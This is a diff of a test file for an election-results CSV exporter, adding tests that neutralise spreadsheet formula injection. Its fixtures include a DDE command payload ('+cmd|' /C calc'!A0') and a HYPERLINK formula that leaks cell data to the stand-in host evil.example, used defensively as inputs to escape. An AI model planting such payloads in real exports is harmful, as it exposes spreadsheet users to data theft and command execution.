@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { csvField, type ExportElection, type RecountForExport, resultsCsv, resultsFileName, resultsJson } from "../src/client/index";
+import { csvCell, csvDocument, type ExportElection, type RecountForExport, resultsCsv, resultsFileName, resultsJson } from "../src/client/index";
 
 const election: ExportElection = {
   id: "6f1c2d3e-0000-4000-8000-000000000001",
@@ -50,12 +50,53 @@ describe("resultsCsv", () => {
   });
 });
 
-describe("csvField", () => {
-  it("quotes only what needs quoting", () => {
-    expect(csvField("plain")).toBe("plain");
-    expect(csvField(12)).toBe("12");
-    expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(csvField("two\nlines")).toBe('"two\nlines"');
+describe("csvCell", () => {
+  it("quotes only what RFC 4180 needs quoted, quotes doubled", () => {
+    expect(csvCell("plain")).toBe("plain");
+    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
+    expect(csvCell("Smith, Robert")).toBe('"Smith, Robert"');
+    expect(csvCell("two\nlines")).toBe('"two\nlines"');
+    expect(csvCell("a\rb")).toBe('"a\rb"');
+  });
+
+  it("keeps numbers plain numbers, so a spreadsheet still sums the counts", () => {
+    expect(csvCell(12)).toBe("12");
+    expect(csvCell(0)).toBe("0");
+  });
+
+  // OWASP CSV injection: a cell starting with = + - @ tab or CR is a formula to a spreadsheet,
+  // quoted or not; a leading ' makes it text, and the cell is quoted.
+  it.each([
+    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
+    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`],
+    ["@SUM(1)", `"'@SUM(1)"`],
+    ["-2+3", `"'-2+3"`],
+    ["\t=1", `"'\t=1"`],
+    ["\r=1", `"'\r=1"`],
+    ["=1,2", `"'=1,2"`],
+  ])("neutralises %j as text", (attack, cell) => {
+    expect(csvCell(attack)).toBe(cell);
+  });
+
+  it("leaves a formula character that is not first alone", () => {
+    expect(csvCell("Ada = Bob")).toBe("Ada = Bob");
+    expect(csvCell("e-mail")).toBe("e-mail");
+  });
+
+  it("writes documents of rows with CRLF after each", () => {
+    expect(csvDocument([["a", 1], ["=b", 2]])).toBe("a,1\r\n\"'=b\",2\r\n");
+  });
+});
+
+describe("resultsCsv with labels that are formulas", () => {
+  it("writes every label and prompt as text", () => {
+    const attack: ExportElection = {
+      ...election,
+      questions: [{ id: "q", kind: "single", prompt: "=1+1", options: [{ id: "a", label: "+cmd|' /C calc'!A0" }, { id: "b", label: "@SUM(1)" }] }],
+    };
+    const lines = csvLines(resultsCsv(attack, recount));
+    expect(lines).toContain(`q#a,q,"'=1+1",a,"'+cmd|' /C calc'!A0",0`);
+    expect(lines).toContain(`q#b,q,"'=1+1",b,"'@SUM(1)",0`);
   });
 });
 
